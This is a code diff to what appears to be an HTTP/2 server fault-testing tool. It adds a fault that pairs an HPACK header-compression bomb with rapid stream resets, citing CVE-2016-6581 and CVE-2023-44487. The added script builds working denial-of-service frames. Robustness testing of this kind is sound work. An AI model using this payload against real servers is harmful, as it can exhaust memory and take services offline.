@@ -1,5 +1,5 @@
 import Type from 'typebox';
-import { encodeContinuation, encodeHeaders } from '../../../protos/h2/frames.ts';
+import { encodeContinuation, encodeHeaders, encodeRstStream } from '../../../protos/h2/frames.ts';
 import { HpackEncoder } from '../../../protos/hpack/encoder.ts';
 import type { Fault } from '../fault.ts';
 import { count, encoded, h2Fault, join, number, times } from './h2-fault.ts';
@@ -38,6 +38,41 @@ export const headerFloodFaults: Fault[] = [
           Buffer.alloc(number(n), 0xbe),
         );
         return { frames: [...withMoreFrames(get(1), bomb)], until: [1] };
+      },
+    },
+  ),
+  h2Fault(
+    'h2-hpack-bomb-streams',
+    'Refers to one large field in every request and resets each at once, then asks once more.',
+    'header lists far larger than their bytes, again and again: bounded',
+    'CVE-2016-6581, CVE-2023-44487',
+    {
+      extra: {
+        n: count(1000),
+        references: Type.Integer({
+          minimum: 1,
+          maximum: 100_000,
+          default: 15,
+          description: 'Of each request to the field of 4000 bytes.',
+        }),
+      },
+      script: (get, { n, references }) => {
+        const field = { name: 'x', value: 'x'.repeat(4000), indexing: 'incremental' } as const;
+        const entry = new HpackEncoder({ huffman: false }).encode([field]);
+        const more = Buffer.alloc(number(references), 0xbe);
+        const request = (streamId: number, block: Buffer): Buffer =>
+          join(
+            encodeHeaders(streamId, join(get(streamId).subarray(9), block), { endStream: true }),
+            encodeRstStream(streamId, 8),
+          );
+        const last = 2 * number(n) + 1;
+        return {
+          frames: [
+            join(...times(n, (at) => request(2 * at + 1, at === 0 ? join(entry, more) : more))),
+            get(last),
+          ],
+          until: [last],
+        };
       },
     },
   ),
